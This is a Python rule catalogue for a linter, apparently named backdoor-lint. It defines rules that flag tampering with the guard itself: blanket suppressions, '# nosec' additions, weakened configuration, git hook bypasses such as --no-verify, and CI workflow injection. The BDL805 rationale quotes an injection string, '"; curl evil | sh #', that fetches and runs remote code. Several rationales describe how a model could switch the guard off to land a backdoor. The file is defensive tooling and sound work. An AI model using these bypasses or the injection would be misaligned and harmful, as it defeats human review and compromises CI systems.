"""BDL8xx: tampering with the guard itself."""
from backdoor_lint.catalogue import BLOCK, WARN, Rule

RULES = [
    Rule(
        code="BDL801",
        name="invalid-suppression",
        category="guard-tampering",
        severity=BLOCK,
        confidence="high",
        cwe=("CWE-693",),
        languages=("any",),
        summary="backdoor-lint suppression without codes, without a reason, or naming unknown codes",
        what=(
            "Reports a `backdoor-lint: ignore` comment that is blanket (no codes), gives no reason,\n"
            "or names codes that do not exist. Such a comment suppresses nothing."
        ),
        why=(
            "A bare ignore is the cheapest way to switch the guard off for a line that carries a\n"
            "backdoor, and nobody reviewing the diff learns why. Requiring the exact code and a\n"
            "reason makes each suppression a reviewable statement."
        ),
        example="token = jwt.decode(t, KEY, algorithms=ALGS)  # backdoor-lint: ignore",
        use_instead="# backdoor-lint: ignore[BDL101] migration window until 2026-12-01, tracked in SEC-123",
        fix="name the code(s) in brackets and say why, e.g. # backdoor-lint: ignore[BDL101] reason",
    ),
    Rule(
        code="BDL802", name="foreign-suppression-added", category="guard-tampering", severity=WARN,
        confidence="high", cwe=("CWE-693",),
        summary="Security suppression of another tool added (# nosec, # noqa: S..., # nosemgrep, eslint-disable)",
        what="Flags newly added suppressions of other security linters in the change; `# type: ignore` and non-security noqa codes are not findings.",
        why="A `# nosec` added next to a new line silences bandit exactly where a backdoor would be reported, and reviewers read it as routine lint hygiene.",
        example="resp = requests.get(url, verify=False)  # nosec",
        use_instead="Fix the finding; if it is a false positive, suppress with a code and a reason a reviewer can judge.",
        fix="fix the underlying finding instead of suppressing it, or give the exact rule and a reason",
    ),
    Rule(
        code="BDL803", name="guard-weakened", category="guard-tampering", severity=BLOCK, confidence="high",
        cwe=("CWE-693",),
        summary="Change that weakens the guard's own configuration (hook removed, new ignores, excludes, allowed hosts)",
        what=("Flags changes that remove or skip the backdoor-lint hook in .pre-commit-config.yaml, add\n"
              "ignores/excludes/allowed-hosts in [tool.backdoor-lint], weaken bandit/ruff/semgrep\n"
              "security settings, or delete CI steps that run backdoor-lint."),
        why="The cheapest evasion of any guard is switching it off. A model that wants a backdoor to land only has to add one exclude line, and the next commit passes silently.",
        example='[tool.backdoor-lint]\nexclude = ["src/auth/"]',
        use_instead="A person makes such changes in a separate, reviewed commit using the documented override.",
        fix="have a person make this change in a separate reviewed commit (see the README override)",
    ),
    Rule(
        code="BDL804", name="hook-bypass", category="guard-tampering", severity=BLOCK, confidence="high",
        cwe=("CWE-693",),
        summary="Command that bypasses git hooks (--no-verify, SKIP=, core.hooksPath, pre-commit uninstall)",
        what="Flags git commit/push --no-verify or -n, SKIP= for pre-commit, git config core.hooksPath, pre-commit uninstall, and deleting .git/hooks.",
        why="Hooks are where backdoor-lint runs; an agent that commits with --no-verify lands whatever it wrote without any check.",
        example="git commit -n -m 'fix tests'",
        use_instead="Commit normally and fix what the hooks report.",
        fix="run the commit without bypassing hooks and fix what they report",
    ),
    Rule(
        code="BDL805", name="ci-workflow-injection", category="supply-chain", severity=BLOCK, confidence="high",
        cwe=("CWE-78", "CWE-829"),
        summary="CI workflow weakened or injectable (pull_request_target running PR code, ${{ github.event.* }} in run:)",
        what="Flags GitHub Actions workflows that check out and run pull-request code under pull_request_target, interpolate ${{ github.event.* }} into run: scripts, or send secrets to external URLs.",
        why="pull_request_target runs with the base repository's secrets; checking out the PR head runs a stranger's code with them. An issue title like `\"; curl evil | sh #` interpolated into run: executes.",
        example="run: echo \"${{ github.event.issue.title }}\"",
        use_instead="Pass event data through env: variables and quote them; use pull_request for untrusted code.",
        fix="pass event data via env: and quote it; never run PR code under pull_request_target",
    ),
]
